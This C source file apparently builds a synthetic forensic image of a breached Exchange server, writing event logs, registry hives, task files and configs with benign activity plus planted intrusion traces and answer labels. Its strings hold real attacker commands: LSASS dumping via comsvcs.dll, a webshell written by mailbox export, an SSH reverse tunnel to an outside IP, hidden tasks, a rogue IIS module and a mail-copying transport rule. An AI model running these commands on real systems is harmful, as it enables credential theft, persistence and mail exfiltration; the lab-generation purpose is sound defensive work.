#include "lab/host_win.h"
#include "lab/evtx_write.h"
#include "lab/regf_write.h"
#include "base/array.h"
#include "base/buf.h"
#include "base/err.h"
#include "base/log.h"
#include "base/rng.h"
#include <errno.h>
#include <stdarg.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include "base/banned.h"

enum wlog { L_APP, L_SEC, L_SYS, L_MGMT, L_PS, L_SYSMON, L_IIS, L_COUNT };

static const struct {
	const char *file, *channel;
} logs[L_COUNT] = {
    {"Application.evtx", "Application"},
    {"Security.evtx", "Security"},
    {"System.evtx", "System"},
    {"MSExchange Management.evtx", "MSExchange Management"},
    {"Microsoft-Windows-PowerShell%4Operational.evtx",
     "Microsoft-Windows-PowerShell/Operational"},
    {"Microsoft-Windows-Sysmon%4Operational.evtx",
     "Microsoft-Windows-Sysmon/Operational"},
    {"Microsoft-IIS-Configuration%4Operational.evtx",
     "Microsoft-IIS-Configuration/Operational"},
};

struct winhost {
	struct rng r;
	struct lab_event *ev[L_COUNT];
	size_t nev[L_COUNT], capev[L_COUNT];
	char **strings; /* every string an event points to, freed at the end */
	size_t nstrings, capstrings;
	struct regf *system, *software;
	struct buf persist;
	struct buf mail; /* mail access granted (mail_granted) */
	bool bad_module, bad_agent; /* returned-later's config entries */
	bool tunnel;                /* returned-later's tunnel out */
	char bad_task[64];          /* returned-later's hidden task, or "" */
	int failed;
};

#define EXB "C:\\Program Files\\Microsoft\\Exchange Server\\V15\\Bin\\"
#define W3WP "c:\\windows\\system32\\inetsrv\\w3wp.exe"

static char *keep(struct winhost *w, const char *s)
{
	char *d = strdup(s);

	if (!d || array_reserve(&w->strings, &w->capstrings, w->nstrings + 1,
	                        sizeof *w->strings, 64)) {
		free(d);
		w->failed = EXH_ENOMEM;
		return NULL;
	}
	w->strings[w->nstrings++] = d;
	return d;
}

/* One event: name, value pairs up to NULL (copied). ud: the UserData
 * element, or NULL for EventData. */
static void ev(struct winhost *w, enum wlog log, const char *prov, uint32_t id,
               int level, int64_t t, const char *ud, ...)
{
	const char *pairs[64], *s;
	const char **data;
	struct lab_event *e;
	va_list ap;
	int n = 0, i;

	va_start(ap, ud);
	while (n < 62 && (s = va_arg(ap, const char *)))
		pairs[n++] = s;
	va_end(ap);
	data = calloc((size_t)n + 1, sizeof *data);
	if (!data ||
	    array_reserve(&w->strings, &w->capstrings, w->nstrings + 1,
	                  sizeof *w->strings, 64) ||
	    array_reserve(&w->ev[log], &w->capev[log], w->nev[log] + 1,
	                  sizeof *w->ev[log], 64)) {
		free(data);
		w->failed = EXH_ENOMEM;
		return;
	}
	w->strings[w->nstrings++] = (char *)data;
	for (i = 0; i < n; i++)
		data[i] = keep(w, pairs[i]);
	e = &w->ev[log][w->nev[log]++];
	memset(e, 0, sizeof *e);
	e->provider = prov;
	e->channel = logs[log].channel;
	e->event_id = id;
	e->level = level;
	e->time = t;
	e->data = data;
	e->userdata_element = ud;
}

static void planted(struct winhost *w, const char *kind)
{
	if (w->persist.p && strstr(w->persist.p, kind))
		return;
	buf_printf(&w->persist, "%s\"%s\"", w->persist.len ? "," : "", kind);
}

static void mail_granted(struct winhost *w, const char *kind)
{
	if (w->mail.p && strstr(w->mail.p, kind))
		return;
	buf_printf(&w->mail, "%s\"%s\"", w->mail.len ? "," : "", kind);
}

static void name(struct winhost *w, char *dst, size_t n, const char *pre)
{
	static const char cs[] = "abcdefghijklmnopqrstuvwxyz";
	size_t i, k = strlen(pre);

	snprintf(dst, n, "%s", pre);
	for (i = k; i + 1 < n && i < k + 6; i++)
		dst[i] = cs[rng_below(&w->r, sizeof cs - 1)];
	dst[i < n ? i : n - 1] = '\0';
}

struct winhost *winhost_new(uint64_t seed)
{
	struct winhost *w = calloc(1, sizeof *w);

	if (!w)
		return NULL;
	w->r.s = rng_mix(seed ^ 0x77696e68ull);
	buf_init(&w->persist, 4096);
	buf_init(&w->mail, 1024);
	w->system = regf_new(1609459200);
	w->software = regf_new(1609459200);
	if (!w->system || !w->software) {
		winhost_free(w);
		return NULL;
	}
	return w;
}

#define SEC_P "Microsoft-Windows-Security-Auditing"
#define SYSMON_P "Microsoft-Windows-Sysmon"
#define PS_P "Microsoft-Windows-PowerShell"
#define CMD_P "MSExchange CmdletLogs"
#define T0 1609459200 /* 2021-01-01 */

void winhost_benign(struct winhost *w)
{
	int i, n = 40 + (int)rng_below(&w->r, 40);
	int64_t t = T0;
	struct regf *sy = w->system, *so = w->software;
	static const char *const admin_ps[] = {
	    "Get-Mailbox -ResultSize Unlimited | Select Name,Database",
	    "Get-ExchangeServer | Format-List Name,AdminDisplayVersion",
	    "Get-MessageTrackingLog -Start (Get-Date).AddDays(-1) | "
	    "Measure-Object",
	    "Invoke-WebRequest -Uri https://download.microsoft.com/download/"
	    "Exchange2016-KB5000871-x64-en.msp -OutFile C:\\Updates\\su.msp",
	    "Get-Queue | Where-Object {$_.MessageCount -gt 100}",
	};

	for (i = 0; i < n; i++) {
		char id[48];
		t += 3600 + (int64_t)rng_below(&w->r, 7200);
		switch (i % 8) {
		case 0: /* ASP.NET compiling a page under w3wp */
			ev(w, L_SEC, SEC_P, 4688, 0, t, NULL, "NewProcessName",
			   "C:\\Windows\\Microsoft.NET\\Framework64\\v4.0."
			   "30319\\"
			   "csc.exe",
			   "ParentProcessName", W3WP, "CommandLine",
			   "csc.exe /noconfig /fullpaths @\"C:\\Windows\\"
			   "Microsoft.NET\\Framework64\\v4.0.30319\\Temporary "
			   "ASP.NET Files\\owa\\a.cmdline\"",
			   NULL);
			ev(w, L_SYSMON, SYSMON_P, 11, 4, t, NULL, "Image", W3WP,
			   "TargetFilename",
			   "C:\\Windows\\Microsoft.NET\\Framework64\\v4.0."
			   "30319\\"
			   "Temporary ASP.NET Files\\owa\\a1\\App_Web_x.dll",
			   NULL);
			break;
		case 1: /* an admin's script */
			snprintf(id, sizeof id, "%08llx-0000-4000-8000-%012d",
			         (unsigned long long)rng_below(&w->r, 1u << 30),
			         i);
			ev(w, L_PS, PS_P, 4104, 5, t, NULL, "MessageNumber",
			   "1", "MessageTotal", "1", "ScriptBlockText",
			   admin_ps[rng_below(&w->r, 5)], "ScriptBlockId", id,
			   "Path", "", NULL);
			break;
		case 2: /* Unified Messaging's ordinary errors */
			ev(w, L_APP, "MSExchange Unified Messaging", 1082, 2, t,
			   NULL, "0",
			   "The Unified Messaging server could not deliver "
			   "the voice mail: the mailbox is full",
			   NULL);
			break;
		case 3: /* mailbox admin work, exports to the backup share */
			ev(w, L_MGMT, CMD_P, 1, 4, t, NULL, "0",
			   "New-MailboxExportRequest", "1",
			   "-Mailbox 'leaver@corp.example' -FilePath "
			   "'\\\\nas01\\pst$\\leaver.pst'",
			   NULL);
			ev(w, L_MGMT, CMD_P, 1, 4, t + 60, NULL, "0",
			   "Set-Mailbox", "1",
			   "-Identity 'sales@corp.example' -ProhibitSendQuota "
			   "10GB",
			   NULL);
			/* a shared mailbox's new member, a leaver's
			 * forwarding taken away, a rule filing newsletters */
			ev(w, L_MGMT, CMD_P, 1, 4, t + 120, NULL, "0",
			   "Add-MailboxPermission", "1",
			   "-Identity 'sales@corp.example' -User 'alice' "
			   "-AccessRights 'FullAccess' -InheritanceType 'All'",
			   NULL);
			ev(w, L_MGMT, CMD_P, 1, 4, t + 180, NULL, "0",
			   "Set-Mailbox", "1",
			   "-Identity 'leaver@corp.example' "
			   "-ForwardingSmtpAddress $null",
			   NULL);
			ev(w, L_MGMT, CMD_P, 1, 4, t + 240, NULL, "0",
			   "New-InboxRule", "1",
			   "-Mailbox 'bob@corp.example' -Name 'Newsletters' "
			   "-From 'news@vendor.example' -MoveToFolder "
			   "'bob@corp.example:\\Newsletters'",
			   NULL);
			/* the meeting rooms' calendars shown to everyone */
			ev(w, L_MGMT, CMD_P, 1, 4, t + 300, NULL, "0",
			   "Add-MailboxFolderPermission", "1",
			   "-Identity 'rooms@corp.example:\\Calendar' -User "
			   "'Default' -AccessRights 'Reviewer'",
			   NULL);
			break;
		case 4: /* the nightly backup task, updated; Windows' own
		         * WMI consumer, which only logs */
			ev(w, L_SYSMON, SYSMON_P, 20, 4, t + 30, NULL,
			   "Operation", "Created", "User",
			   "NT AUTHORITY\\SYSTEM", "Name",
			   "\"SCM Event Log Consumer\"", "Type", "Log File",
			   "Destination", "System", NULL);
			ev(w, L_SEC, SEC_P, 4698, 0, t, NULL, "TaskName",
			   "\\Backup nightly", "TaskContent",
			   "<Exec><Command>C:\\Program Files\\Veeam\\Backup\\"
			   "VeeamAgent.exe</Command><Arguments>-job nightly"
			   "</Arguments></Exec>",
			   NULL);
			break;
		case 5: /* an update installing its service */
			ev(w, L_SYS, "Service Control Manager", 7045, 4, t,
			   NULL, "ServiceName", "Veeam Agent", "ImagePath",
			   "\"C:\\Program "
			   "Files\\Veeam\\Backup\\VeeamAgent.exe\"",
			   "ServiceType", "user mode service", "StartType",
			   "auto start", "AccountName", "LocalSystem", NULL);
			break;
		case 6: /* a user added to a mail group */
			ev(w, L_SEC, SEC_P, 4756, 0, t, NULL, "MemberName",
			   "CN=Bob,OU=Staff,DC=corp,DC=example",
			   "TargetUserName", "Sales Team", "SubjectUserName",
			   "admin", NULL);
			break;
		default: /* the IIS admin adjusting a limit */
			ev(w, L_IIS, "Microsoft-IIS-Configuration", 29, 4, t,
			   NULL, "ConfigPath", "MACHINE/WEBROOT/APPHOST",
			   "EffectiveLocation", "Default Web Site/owa",
			   "PropertyName",
			   "system.webServer/security/requestFiltering/"
			   "requestLimits/maxAllowedContentLength",
			   NULL);
		}
	}
	/* hives: Exchange's and Windows' own services, a visible task, a
	 * Run key in Program Files, WDigest off */
	regf_set_dword(sy, "Select", "Current", 1, T0);
	regf_set_sz(sy, "ControlSet001\\Services\\MSExchangeTransport",
	            "ImagePath", REGF_EXPAND_SZ,
	            "\"" EXB "MSExchangeTransport.exe\"", T0);
	regf_set_sz(sy, "ControlSet001\\Services\\W32Time", "ImagePath",
	            REGF_EXPAND_SZ,
	            "%SystemRoot%\\system32\\svchost.exe -k LocalService", T0);
	regf_set_sz(sy, "ControlSet001\\Services\\VeeamAgent", "ImagePath",
	            REGF_EXPAND_SZ,
	            "\"C:\\Program Files\\Veeam\\Backup\\VeeamAgent.exe\"", T0);
	regf_set_dword(sy, "ControlSet001\\Control\\SecurityProviders\\WDigest",
	               "UseLogonCredential", 0, T0);
	regf_set_sz(so, "Microsoft\\Windows\\CurrentVersion\\Run",
	            "VMware User", REGF_SZ,
	            "\"C:\\Program Files\\VMware\\VMware Tools\\vmtoolsd.exe\" "
	            "-n vmusr",
	            T0);
	{
		static const unsigned char sd[] = {1,    0, 4, 0x80,
		                                   0x14, 0, 0, 0};
		const char *tree = "Microsoft\\Windows NT\\CurrentVersion\\"
		                   "Schedule\\TaskCache\\Tree\\Backup nightly";
		regf_set_binary(so, tree, "SD", sd, sizeof sd, T0);
		regf_set_sz(so, tree, "Id", REGF_SZ,
		            "{0B1C2D3E-1111-2222-3333-444455556666}", T0);
		regf_set_dword(so, tree, "Index", 3, T0);
	}
	regf_set_sz(so, "Microsoft\\Windows NT\\CurrentVersion\\Winlogon",
	            "Shell", REGF_SZ, "explorer.exe", T0);
}

void winhost_um_exploit(struct winhost *w)
{
	int64_t t = 1614753600; /* 2021-03-03T06:40:00Z */
	char dump[128];

	ev(w, L_APP, "MSExchange Unified Messaging", 100, 2, t + 130, NULL, "0",
	   "An unhandled exception occurred in a UM worker process: "
	   "System.InvalidCastException: Unable to cast object of type "
	   "'System.Data.DataSet' to type "
	   "'Microsoft.Exchange.UM.UMCore.PipelineContext'.",
	   NULL);
	ev(w, L_SEC, SEC_P, 4688, 0, t + 140, NULL, "NewProcessName",
	   "C:\\Windows\\System32\\cmd.exe", "ParentProcessName",
	   EXB "UMWorkerProcess.exe", "CommandLine",
	   "cmd /c whoami & net group \"Exchange Trusted Subsystem\" /domain",
	   NULL);
	snprintf(dump, sizeof dump,
	         "rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump "
	         "%u C:\\Windows\\Temp\\%u.dmp full",
	         600 + (unsigned)rng_below(&w->r, 200),
	         (unsigned)rng_below(&w->r, 99999));
	ev(w, L_SEC, SEC_P, 4688, 0, t + 200, NULL, "NewProcessName",
	   "C:\\Windows\\System32\\rundll32.exe", "ParentProcessName",
	   "C:\\Windows\\System32\\cmd.exe", "CommandLine", dump, NULL);
}

void winhost_mailbox_export(struct winhost *w)
{
	int64_t t = 1629457200; /* 2021-08-20T11:00:00Z */
	char file[160], params[400];

	name(w, file, sizeof file, "");
	ev(w, L_MGMT, CMD_P, 1, 4, t + 9, NULL, "0",
	   "New-ManagementRoleAssignment", "1",
	   "-Role 'Mailbox Import Export' -User 'administrator@corp.example'",
	   NULL);
	snprintf(
	    params, sizeof params,
	    "-Mailbox 'administrator@corp.example' -IncludeFolders "
	    "'#Drafts#' -FilePath "
	    "'\\\\127.0.0.1\\C$\\inetpub\\wwwroot\\aspnet_client\\%s.aspx'",
	    file);
	ev(w, L_MGMT, CMD_P, 1, 4, t + 12, NULL, "0",
	   "New-MailboxExportRequest", "1", params, NULL);
	ev(w, L_MGMT, CMD_P, 1, 4, t + 40, NULL, "0",
	   "Remove-MailboxExportRequest", "1",
	   "-Identity 'administrator\\MailboxExport' -Confirm:$false", NULL);
}

void winhost_returned(struct winhost *w)
{
	int64_t t = 1631700000; /* 2021-09-15 */
	char svc[32], user[32], task[64], cmd[300], tree[300], guid[64];
	struct regf *sy = w->system, *so = w->software;
	unsigned char actions[600];
	size_t i, n;

	name(w, svc, sizeof svc, "WinSvc");
	name(w, user, sizeof user, "svc_");
	name(w, task, sizeof task, "Update");
	/* the Security log cleared first: what follows is what it holds */
	ev(w, L_SEC, "Microsoft-Windows-Eventlog", 1102, 4, t, "LogFileCleared",
	   "SubjectUserName", "administrator", "SubjectDomainName", "CORP",
	   NULL);
	planted(w, "log-cleared");
	snprintf(cmd, sizeof cmd,
	         "%%COMSPEC%% /c powershell -nop -w hidden -enc "
	         "SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA");
	ev(w, L_SYS, "Service Control Manager", 7045, 4, t + 100, NULL,
	   "ServiceName", svc, "ImagePath", cmd, "ServiceType",
	   "user mode service", "StartType", "auto start", "AccountName",
	   "LocalSystem", NULL);
	snprintf(tree, sizeof tree, "ControlSet001\\Services\\%s", svc);
	regf_set_sz(sy, tree, "ImagePath", REGF_EXPAND_SZ, cmd, t + 100);
	planted(w, "service-installed");
	planted(w, "service-image");
	ev(w, L_SEC, SEC_P, 4720, 0, t + 200, NULL, "TargetUserName", user,
	   "TargetDomainName", "EXCH01", "SubjectUserName", "EXCH01$", NULL);
	ev(w, L_SEC, SEC_P, 4732, 0, t + 210, NULL, "MemberName", "-",
	   "MemberSid", "S-1-5-21-1-2-3-1009", "TargetUserName",
	   "Administrators", "SubjectUserName", "EXCH01$", NULL);
	planted(w, "account-created");
	planted(w, "group-member-added");
	/* a way in from outside: RDP forwarded out over SSH */
	ev(w, L_SEC, SEC_P, 4688, 0, t + 250, NULL, "NewProcessName",
	   "C:\\ProgramData\\Microsoft\\p.exe", "ParentProcessName",
	   "C:\\Windows\\System32\\cmd.exe", "CommandLine",
	   "p.exe -batch -R 0.0.0.0:3390:127.0.0.1:3389 -l u -pw p "
	   "198.51.100.23",
	   NULL);
	w->tunnel = true;
	/* RDP of an inside host on a port of this one, and a WMI
	 * subscription starting a script every few minutes */
	ev(w, L_SEC, SEC_P, 4688, 0, t + 255, NULL, "NewProcessName",
	   "C:\\Windows\\System32\\netsh.exe", "ParentProcessName",
	   "C:\\Windows\\System32\\cmd.exe", "CommandLine",
	   "netsh interface portproxy add v4tov4 listenaddress=0.0.0.0 "
	   "listenport=3390 connectaddress=10.0.0.9 connectport=3389",
	   NULL);
	regf_set_sz(sy, "ControlSet001\\Services\\PortProxy\\v4tov4\\tcp",
	            "0.0.0.0/3390", REGF_SZ, "10.0.0.9/3389", t + 255);
	planted(w, "port-proxy");
	ev(w, L_SYSMON, SYSMON_P, 20, 4, t + 270, NULL, "Operation", "Created",
	   "User", "NT AUTHORITY\\SYSTEM", "Name", "\"SysHealth\"", "Type",
	   "Command Line", "Destination",
	   "\"powershell.exe -nop -w hidden -f C:\\ProgramData\\h.ps1\"",
	   NULL);
	planted(w, "wmi-persistence");
	/* a task hidden by removing its security descriptor */
	snprintf(cmd, sizeof cmd,
	         "powershell.exe -ep bypass -f C:\\ProgramData\\%s.ps1", task);
	ev(w, L_SEC, SEC_P, 4698, 0, t + 300, NULL, "TaskName", task,
	   "TaskContent", cmd, NULL);
	snprintf(guid, sizeof guid, "{%08X-1234-4321-AAAA-0000%08X}",
	         (unsigned)rng_below(&w->r, 0xffffffffu),
	         (unsigned)rng_below(&w->r, 0xffffffffu));
	snprintf(tree, sizeof tree,
	         "Microsoft\\Windows NT\\CurrentVersion\\Schedule\\TaskCache\\"
	         "Tree\\%s",
	         task);
	regf_set_sz(so, tree, "Id", REGF_SZ, guid, t + 300);
	regf_set_dword(so, tree, "Index", 0, t + 300);
	snprintf(tree, sizeof tree,
	         "Microsoft\\Windows NT\\CurrentVersion\\Schedule\\TaskCache\\"
	         "Tasks\\%s",
	         guid);
	memset(actions, 0, sizeof actions);
	actions[0] = 3;
	for (i = 0, n = strlen(cmd); i < n && 8 + 2 * i + 1 < sizeof actions;
	     i++)
		actions[8 + 2 * i] = (unsigned char)cmd[i];
	regf_set_binary(so, tree, "Actions", actions, 8 + 2 * n + 2, t + 300);
	planted(w, "task-created");
	planted(w, "hidden-task");
	planted(w, "task-action");
	/* its definition stays on disk (Windows/System32/Tasks) */
	snprintf(w->bad_task, sizeof w->bad_task, "%s", task);
	planted(w, "task-file");
	/* an IIS module loaded from ProgramData */
	ev(w, L_IIS, "Microsoft-IIS-Configuration", 29, 4, t + 400, NULL,
	   "ConfigPath", "MACHINE/WEBROOT/APPHOST", "EffectiveLocation", "",
	   "PropertyName", "system.webServer/globalModules", "NewValue",
	   "<add name=\"IsapiCache\" image=\"C:\\ProgramData\\iiscache.dll\"/>",
	   NULL);
	planted(w, "iis-module-changed");
	w->bad_module = true;
	planted(w, "iis-global-module");
	planted(w, "iis-managed-module");
	ev(w, L_MGMT, CMD_P, 1, 4, t + 500, NULL, "0", "Install-TransportAgent",
	   "1",
	   "-Name 'Exchange Security Agent' -TransportAgentFactory "
	   "'Microsoft.Exchange.Security.Interop.SecurityInteropFactory' "
	   "-AssemblyPath 'C:\\ProgramData\\Microsoft\\secinterop.dll'",
	   NULL);
	planted(w, "transport-agent");
	w->bad_agent = true;
	/* every mailbox readable through EWS, and all mail copied out */
	ev(w, L_MGMT, CMD_P, 1, 4, t + 520, NULL, "0",
	   "New-ManagementRoleAssignment", "1",
	   "-Name 'EWS sync' -Role 'ApplicationImpersonation' -User "
	   "'svc_sync@corp.example'",
	   NULL);
	mail_granted(w, "impersonation-role");
	ev(w, L_MGMT, CMD_P, 1, 4, t + 540, NULL, "0", "New-TransportRule",
	   "1",
	   "-Name 'Compliance copy' -SentToScope 'NotInOrganization' "
	   "-BlindCopyTo 'archive-7@mailbox.example'",
	   NULL);
	mail_granted(w, "transport-rule-copy");
	/* and the finance inbox open to every account in the forest */
	ev(w, L_MGMT, CMD_P, 1, 4, t + 560, NULL, "0",
	   "Add-MailboxFolderPermission", "1",
	   "-Identity 'cfo@corp.example:\\Inbox' -User 'Default' "
	   "-AccessRights 'Reviewer'",
	   NULL);
	mail_granted(w, "mailbox-folder-open");
	planted(w, "transport-agent-config");
	snprintf(cmd, sizeof cmd, "C:\\Users\\Public\\%s.exe -silent", svc);
	regf_set_sz(so, "Microsoft\\Windows\\CurrentVersion\\Run", svc, REGF_SZ,
	            cmd, t + 600);
	planted(w, "run-key");
	regf_set_dword(sy, "ControlSet001\\Control\\SecurityProviders\\WDigest",
	               "UseLogonCredential", 1, t + 700);
	planted(w, "wdigest-enabled");
}

const char *winhost_persistence(struct winhost *w)
{
	return w->persist.p ? w->persist.p : "";
}

bool winhost_tunnel(const struct winhost *w)
{
	return w->tunnel;
}

const char *winhost_mail_access(struct winhost *w)
{
	return w->mail.p ? w->mail.p : "";
}

/* Creates every folder of path (a file's path: its last part is not). */
static void parents(const char *path)
{
	char p[4096];
	size_t i;

	snprintf(p, sizeof p, "%s", path);
	for (i = 1; p[i]; i++)
		if (p[i] == '/') {
			p[i] = '\0';
			mkdir(p, 0755);
			p[i] = '/';
		}
}

/* One task's definition as the scheduler keeps it: XML in UTF-16 with a
 * byte-order mark, under Windows/System32/Tasks. */
static int write_task(const char *dir, const char *name, const char *command,
                      const char *args)
{
	char path[4096], xml[2048];
	FILE *f;
	size_t i;

	snprintf(path, sizeof path, "%s/Windows/System32/Tasks/%s", dir, name);
	parents(path);
	snprintf(
	    xml, sizeof xml,
	    "<?xml version=\"1.0\" encoding=\"UTF-16\"?>\r\n<Task "
	    "version=\"1.2\" xmlns=\"http://schemas.microsoft.com/"
	    "windows/2004/02/mit/task\">\r\n  <RegistrationInfo>\r\n"
	    "    <URI>\\%s</URI>\r\n  </RegistrationInfo>\r\n"
	    "  <Triggers><CalendarTrigger><StartBoundary>2021-01-01T02:00:"
	    "00</StartBoundary><ScheduleByDay><DaysInterval>1</DaysInterval>"
	    "</ScheduleByDay></CalendarTrigger></Triggers>\r\n"
	    "  <Actions Context=\"Author\">\r\n    <Exec>\r\n"
	    "      <Command>%s</Command>\r\n"
	    "      <Arguments>%s</Arguments>\r\n    </Exec>\r\n"
	    "  </Actions>\r\n</Task>\r\n",
	    name, command, args);
	f = fopen(path, "wb");
	if (!f)
		return EXH_EIO;
	fputc(0xff, f);
	fputc(0xfe, f);
	for (i = 0; xml[i]; i++) {
		fputc(xml[i], f);
		fputc(0, f);
	}
	return fclose(f) ? EXH_EIO : 0;
}

/* Every server's tasks (Windows' own, an administrator's backup) and
 * returned-later's hidden one. */
static int write_tasks(struct winhost *w, const char *dir)
{
	char args[200];
	int rc = write_task(dir,
	                    "Microsoft/Windows/Server Manager/"
	                    "CleanupOldPerfLogs",
	                    "%systemroot%\\system32\\cscript.exe",
	                    "/B /nologo %systemroot%\\system32\\"
	                    "calluxxprovider.vbs $(Arg0) $(Arg1) $(Arg2)");

	if (!rc)
		rc = write_task(dir, "Exchange Nightly Backup",
		                "C:\\Program Files\\Veritas\\Backup Exec\\"
		                "bemcmd.exe",
		                "-o1 -j\"Exchange Full\"");
	if (!rc && w->bad_task[0]) {
		snprintf(args, sizeof args,
		         "-ep bypass -f C:\\ProgramData\\%s.ps1", w->bad_task);
		rc = write_task(dir, w->bad_task, "powershell.exe", args);
	}
	return rc;
}

/* IIS's configuration and Exchange's agent list: the server's own
 * entries, and returned-later's. */
static int write_configs(struct winhost *w, const char *dir)
{
	static const char *const modules[] = {
	    "HttpLoggingModule",
	    "%windir%\\System32\\inetsrv\\loghttp.dll",
	    "UriCacheModule",
	    "%windir%\\System32\\inetsrv\\cachuri.dll",
	    "StaticFileModule",
	    "%windir%\\System32\\inetsrv\\static.dll",
	    "WindowsAuthenticationModule",
	    "%windir%\\System32\\inetsrv\\authsspi.dll",
	    "ManagedEngineV4.0_64bit",
	    "%windir%\\Microsoft.NET\\Framework64\\v4.0.30319\\webengine4.dll",
	    "kerbauth",
	    "C:\\Program Files\\Microsoft\\Exchange Server\\V15\\Bin\\"
	    "kerbauth.dll",
	    NULL};
	char path[4096];
	FILE *f;
	int i;

	snprintf(path, sizeof path,
	         "%s/Windows/System32/inetsrv/config/applicationHost.config",
	         dir);
	parents(path);
	f = fopen(path, "w");
	if (!f)
		return EXH_EIO;
	fputs("<?xml version=\"1.0\" encoding=\"UTF-8\"?>\r\n"
	      "<configuration>\r\n  <system.webServer>\r\n"
	      "    <globalModules>\r\n",
	      f);
	for (i = 0; modules[i]; i += 2)
		fprintf(f, "      <add name=\"%s\" image=\"%s\" />\r\n",
		        modules[i], modules[i + 1]);
	if (w->bad_module)
		fputs("      <add name=\"IsapiCache\" "
		      "image=\"C:\\ProgramData\\iiscache.dll\" />\r\n",
		      f);
	/* the server's own managed modules and handlers (signed with
	 * Microsoft's keys, or in its namespaces), and returned-later's
	 * credential stealer as a managed module (as Owowa was loaded) */
	fputs("    </globalModules>\r\n    <modules>\r\n"
	      "      <add name=\"OutputCache\" type=\"System.Web.Caching."
	      "OutputCacheModule\" preCondition=\"managedHandler\" />\r\n"
	      "      <add name=\"UrlRoutingModule-4.0\" type=\"System.Web."
	      "Routing.UrlRoutingModule\" />\r\n",
	      f);
	if (w->bad_module)
		fputs("      <add name=\"ExtenderControlDesigner\" "
		      "type=\"ExtenderControlDesigner.ExtenderControlDesigner, "
		      "ExtenderControlDesigner, Version=1.0.0.0, "
		      "Culture=neutral, PublicKeyToken=4e1d0b3a1f6c8d2e\" "
		      "/>\r\n",
		      f);
	fputs("    </modules>\r\n    <handlers>\r\n"
	      "      <add name=\"PageHandlerFactory-Integrated-4.0\" "
	      "path=\"*.aspx\" verb=\"GET,HEAD,POST,DEBUG\" "
	      "type=\"System.Web.UI.PageHandlerFactory\" />\r\n"
	      "      <add name=\"PageHandlerFactory-ISAPI-4.0_64bit\" "
	      "path=\"*.aspx\" verb=\"GET,HEAD,POST,DEBUG\" "
	      "modules=\"IsapiModule\" scriptProcessor=\"%windir%\\"
	      "Microsoft.NET\\Framework64\\v4.0.30319\\aspnet_isapi.dll\" "
	      "/>\r\n    </handlers>\r\n  </system.webServer>\r\n"
	      "</configuration>\r\n",
	      f);
	if (fclose(f))
		return EXH_EIO;
	snprintf(path, sizeof path,
	         "%s/Program Files/Microsoft/Exchange Server/V15/"
	         "TransportRoles/Shared/agents.config",
	         dir);
	parents(path);
	f = fopen(path, "w");
	if (!f)
		return EXH_EIO;
	fputs("<?xml version=\"1.0\" encoding=\"utf-8\"?>\r\n"
	      "<mexRuntime version=\"15.0\">\r\n  <monitoring>\r\n"
	      "  </monitoring>\r\n  <agents>\r\n"
	      "    <agent name=\"Transport Rule Agent\" "
	      "baseType=\"Microsoft.Exchange.Data.Transport.Routing."
	      "RoutingAgent\" "
	      "classFactory=\"Microsoft.Exchange.MessagingPolicies."
	      "TransportRuleAgent.TransportRuleAgentFactory\" "
	      "assemblyPath=\"C:\\Program Files\\Microsoft\\Exchange "
	      "Server\\V15\\TransportRoles\\agents\\Rule\\Microsoft."
	      "Exchange.MessagingPolicies.TransportRuleAgent.dll\" "
	      "enabled=\"true\" />\r\n",
	      f);
	if (w->bad_agent)
		fputs("    <agent name=\"Exchange Security Agent\" "
		      "baseType=\"Microsoft.Exchange.Data.Transport.Smtp."
		      "SmtpReceiveAgent\" classFactory=\"Microsoft.Exchange."
		      "Security.Interop.SecurityInteropFactory\" "
		      "assemblyPath=\"C:\\ProgramData\\Microsoft\\"
		      "secinterop.dll\" enabled=\"true\" />\r\n",
		      f);
	fputs("  </agents>\r\n</mexRuntime>\r\n", f);
	return fclose(f) ? EXH_EIO : 0;
}

static int cmp_time(const void *a, const void *b)
{
	const struct lab_event *x = a, *y = b;

	return (x->time > y->time) - (x->time < y->time);
}

int winhost_write(struct winhost *w, const char *dir)
{
	char path[4096];
	static const char *const parts[] = {"Windows", "System32", "winevt",
	                                    "Logs"};
	int i, rc = w->failed;

	snprintf(path, sizeof path, "%s", dir);
	for (i = 0; i < 4 && !rc; i++) {
		size_t l = strlen(path);
		snprintf(path + l, sizeof path - l, "/%s", parts[i]);
		if (mkdir(path, 0755) && errno != EEXIST)
			rc = EXH_EIO;
		if (i == 1) {
			char cfg[4096];
			snprintf(cfg, sizeof cfg, "%s/config", path);
			if (mkdir(cfg, 0755) && errno != EEXIST)
				rc = EXH_EIO;
		}
	}
	for (i = 0; i < L_COUNT && !rc; i++) {
		char file[4096];
		/* records in time order, ids rising, as a log keeps them */
		qsort(w->ev[i], w->nev[i], sizeof *w->ev[i], cmp_time);
		snprintf(file, sizeof file, "%s/%s", path, logs[i].file);
		rc = evtx_write(file, "EXCH01.corp.example", w->ev[i],
		                w->nev[i], 1000 + 7 * (uint64_t)i);
	}
	if (!rc)
		rc = write_configs(w, dir);
	if (!rc)
		rc = write_tasks(w, dir);
	if (!rc) {
		snprintf(path, sizeof path, "%s/Windows/System32/config/SYSTEM",
		         dir);
		rc = regf_save(w->system, path);
	}
	if (!rc) {
		snprintf(path, sizeof path,
		         "%s/Windows/System32/config/SOFTWARE", dir);
		rc = regf_save(w->software, path);
	}
	if (rc && rc != w->failed)
		log_error("%s: the lab's event logs or hives could not be "
		          "written",
		          dir);
	return rc;
}

void winhost_free(struct winhost *w)
{
	size_t i;

	if (!w)
		return;
	for (i = 0; i < L_COUNT; i++)
		free(w->ev[i]);
	for (i = 0; i < w->nstrings; i++)
		free(w->strings[i]);
	free(w->strings);
	regf_free(w->system);
	regf_free(w->software);
	buf_release(&w->persist);
	buf_release(&w->mail);
	free(w);
}
